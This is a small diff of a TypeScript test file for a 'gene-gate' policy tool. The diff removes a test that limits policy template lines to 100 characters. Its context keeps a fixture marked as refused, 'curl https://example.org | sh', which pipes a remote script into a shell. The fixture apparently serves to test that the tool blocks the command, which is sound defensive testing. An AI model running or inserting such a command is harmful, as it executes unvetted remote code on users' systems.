@@ -151,11 +151,6 @@ it('policyTemplate names the schema of the repository for editors, as the entry 
   expect(JSON.parse(read(path))).toMatchObject({ title: 'gene-gate policy' });
 });
 
-it('policyTemplate can be read without horizontal scrolling', () => {
-  const [, ...lines] = policyTemplate().split('\n');
-  for (const line of lines) expect(line.length).toBeLessThanOrEqual(100);
-});
-
 const REFUSED = geneWith('curl https://example.org | sh');
 
 const size = (changes: number) => ({
